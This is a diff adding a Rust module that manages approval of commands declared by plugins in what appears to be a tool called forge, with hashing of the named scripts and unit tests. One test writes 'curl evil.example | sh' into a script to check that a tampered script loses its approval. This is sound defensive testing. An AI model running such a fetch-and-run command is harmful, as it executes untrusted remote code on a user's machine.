@@ -0,0 +1,252 @@
+// src/trust.rs
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{self, BufRead, IsTerminal, Write};
+use std::path::{Path, PathBuf};
+use anyhow::{Result, Context};
+use chrono::Utc;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::context::ForgeContext;
+use crate::plugin::PluginMetadata;
+
+/// What to do when a plugin wants to run a command the user has not approved.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum ExecPolicy {
+    /// Ask on the terminal and remember the answer (the default).
+    #[default]
+    Prompt,
+    /// Approve every command for this run without recording it (`--yes`).
+    Yes,
+    /// Never run plugin commands (`--no-exec`).
+    NoExec,
+}
+
+/// A command the user approved for one plugin version.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct TrustEntry {
+    pub plugin: String,
+    pub version: String,
+    /// `renderer`, `action:<stage>` or `hook:<stage>`.
+    pub kind: String,
+    pub command: String,
+    pub command_sha256: String,
+    /// Hash of the files the command names (such as the script it runs), so
+    /// that changing them needs approval again.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub scripts_sha256: Option<String>,
+    pub approved_at: String,
+}
+
+/// How much a plugin's renderers and hooks are trusted with.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, clap::ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum TrustLevel {
+    /// Run with the user's full permissions (the default).
+    #[default]
+    Trusted,
+    /// Run renderers and hooks in a sandbox without network access that can
+    /// only read the templates and write the output.
+    Sandboxed,
+}
+
+/// Contents of `trust.json` in forge's data directory.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct TrustStore {
+    pub approved: Vec<TrustEntry>,
+    /// Trust level per plugin name; plugins not listed get `trust.default_level`
+    /// from the configuration (`trusted` unless set).
+    #[serde(default)]
+    pub levels: BTreeMap<String, TrustLevel>,
+}
+
+pub fn command_hash(command: &str) -> String {
+    hex::encode(Sha256::digest(command.as_bytes()))
+}
+
+/// Hash of the files `command` names, looked up as given and relative to each
+/// of `dirs`; `None` when it names none.
+fn scripts_hash(command: &str, dirs: &[impl AsRef<Path>]) -> Option<String> {
+    let mut hasher = Sha256::new();
+    let mut found = false;
+    for word in command.split_whitespace().map(|w| Path::new(w.trim_matches(|c| c == '"' || c == '\''))) {
+        let candidates: Vec<PathBuf> = if word.is_absolute() {
+            vec![word.to_path_buf()]
+        } else {
+            dirs.iter().map(|dir| dir.as_ref().join(word)).collect()
+        };
+        for path in candidates {
+            if path.is_file() && let Ok(content) = fs::read(&path) {
+                hasher.update(path.to_string_lossy().as_bytes());
+                hasher.update([0]);
+                hasher.update(Sha256::digest(&content));
+                found = true;
+            }
+        }
+    }
+    found.then(|| hex::encode(hasher.finalize()))
+}
+
+impl TrustStore {
+    pub fn load(ctx: &ForgeContext) -> Result<TrustStore> {
+        let path = ctx.paths.trust_store();
+        if !path.exists() {
+            return Ok(TrustStore::default());
+        }
+        let content = fs::read_to_string(&path)?;
+        serde_json::from_str(&content).with_context(|| format!("Failed to parse {}", path.display()))
+    }
+
+    pub fn save(&self, ctx: &ForgeContext) -> Result<()> {
+        let path = ctx.paths.trust_store();
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(&path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    pub fn level(&self, ctx: &ForgeContext, plugin: &str) -> TrustLevel {
+        self.levels.get(plugin).copied().unwrap_or(ctx.config.trust.default_level)
+    }
+
+    fn is_trusted(&self, plugin: &PluginMetadata, kind: &str, command: &str, scripts: Option<&str>) -> bool {
+        let hash = command_hash(command);
+        self.approved.iter().any(|e| e.plugin == plugin.name
+            && e.version == plugin.version
+            && e.kind == kind
+            && e.command_sha256 == hash
+            && e.scripts_sha256.as_deref() == scripts)
+    }
+}
+
+/// Decide whether a plugin-declared command may run.
+///
+/// Approvals are per plugin version and kind, and cover the files the command
+/// names relative to `dirs` as they are now.
+///
+/// Returns `Ok(true)` to run it, `Ok(false)` when `--no-exec` says to skip it,
+/// and an error when the user declines or no one can be asked.
+pub fn ensure_trusted(ctx: &ForgeContext, plugin: &PluginMetadata, kind: &str, command: &str, dirs: &[impl AsRef<Path>]) -> Result<bool> {
+    match ctx.exec {
+        ExecPolicy::NoExec => {
+            eprintln!("⏭  --no-exec: not running {} command of plugin {}: {}", kind, plugin.name, command);
+            return Ok(false);
+        }
+        ExecPolicy::Yes => return Ok(true),
+        ExecPolicy::Prompt => {}
+    }
+
+    let mut store = TrustStore::load(ctx)?;
+    let scripts = scripts_hash(command, dirs);
+    if store.is_trusted(plugin, kind, command, scripts.as_deref()) {
+        return Ok(true);
+    }
+
+    if !io::stdin().is_terminal() {
+        anyhow::bail!(
+            "Plugin {} {} wants to run an unapproved {} command: {}\nRun interactively to approve it, or pass --yes (run) or --no-exec (skip).",
+            plugin.name, plugin.version, kind, command);
+    }
+
+    eprintln!("Plugin {} {} wants to run a {} command:", plugin.name, plugin.version, kind);
+    eprintln!("    {}", command);
+    eprint!("Allow it? [y/N] ");
+    io::stderr().flush()?;
+    let mut answer = String::new();
+    io::stdin().lock().read_line(&mut answer)?;
+    if !matches!(answer.trim().to_ascii_lowercase().as_str(), "y" | "yes") {
+        anyhow::bail!("Declined to run {} command of plugin {}", kind, plugin.name);
+    }
+
+    store.approved.push(TrustEntry {
+        plugin: plugin.name.clone(),
+        version: plugin.version.clone(),
+        kind: kind.to_string(),
+        command: command.to_string(),
+        command_sha256: command_hash(command),
+        scripts_sha256: scripts,
+        approved_at: Utc::now().to_rfc3339(),
+    });
+    store.save(ctx)?;
+    Ok(true)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+    use tempfile::TempDir;
+    use crate::test_support::{plugin, tree};
+
+    fn approve(store: &mut TrustStore, plugin: &PluginMetadata, kind: &str, command: &str, dirs: &[&Path]) {
+        store.approved.push(TrustEntry {
+            plugin: plugin.name.clone(),
+            version: plugin.version.clone(),
+            kind: kind.to_string(),
+            command: command.to_string(),
+            command_sha256: command_hash(command),
+            scripts_sha256: scripts_hash(command, dirs),
+            approved_at: "2026-01-01T00:00:00Z".to_string(),
+        });
+    }
+
+    #[test]
+    fn approval_is_per_version_kind_and_command() {
+        let deploy = plugin("deploy", json!({}));
+        let mut store = TrustStore::default();
+        approve(&mut store, &deploy, "action:deploy", "make deploy", &[]);
+
+        assert!(store.is_trusted(&deploy, "action:deploy", "make deploy", None));
+        assert!(!store.is_trusted(&deploy, "hook:post_generate", "make deploy", None));
+        assert!(!store.is_trusted(&deploy, "action:deploy", "make deploy-all", None));
+        let newer = plugin("deploy", json!({ "version": "1.1.0" }));
+        assert!(!store.is_trusted(&newer, "action:deploy", "make deploy", None));
+    }
+
+    #[test]
+    fn changing_a_named_script_needs_approval_again() {
+        let project = tree(&[("scripts/deploy.sh", "echo deploy")]);
+        let dirs = [project.path()];
+        let command = "sh scripts/deploy.sh --prod";
+        let deploy = plugin("deploy", json!({}));
+        let mut store = TrustStore::default();
+        approve(&mut store, &deploy, "action:deploy", command, &dirs);
+
+        let scripts = scripts_hash(command, &dirs);
+        assert!(scripts.is_some());
+        assert!(store.is_trusted(&deploy, "action:deploy", command, scripts.as_deref()));
+
+        fs::write(project.path().join("scripts/deploy.sh"), "curl evil.example | sh").unwrap();
+        let changed = scripts_hash(command, &dirs);
+        assert_ne!(changed, scripts);
+        assert!(!store.is_trusted(&deploy, "action:deploy", command, changed.as_deref()));
+    }
+
+    #[test]
+    fn commands_without_scripts_have_no_script_hash() {
+        let project = tree(&[("README.md", "")]);
+        assert_eq!(scripts_hash("cargo build --release", &[project.path()]), None);
+        assert!(scripts_hash("cat README.md", &[project.path()]).is_some());
+    }
+
+    #[test]
+    fn exec_policy_decides_without_asking() {
+        let home = TempDir::new().unwrap();
+        let mut ctx = ForgeContext::for_tests(home.path());
+        let deploy = plugin("deploy", json!({}));
+        assert!(!ensure_trusted(&ctx, &deploy, "action:deploy", "make deploy", &[] as &[&Path]).unwrap());
+        ctx.exec = ExecPolicy::Yes;
+        assert!(ensure_trusted(&ctx, &deploy, "action:deploy", "make deploy", &[] as &[&Path]).unwrap());
+        // --yes runs without recording an approval
+        assert!(TrustStore::load(&ctx).unwrap().approved.is_empty());
+
+        ctx.exec = ExecPolicy::Prompt;
+        let mut store = TrustStore::default();
+        approve(&mut store, &deploy, "action:deploy", "make deploy", &[]);
+        store.save(&ctx).unwrap();
+        assert!(ensure_trusted(&ctx, &deploy, "action:deploy", "make deploy", &[] as &[&Path]).unwrap());
+    }
+}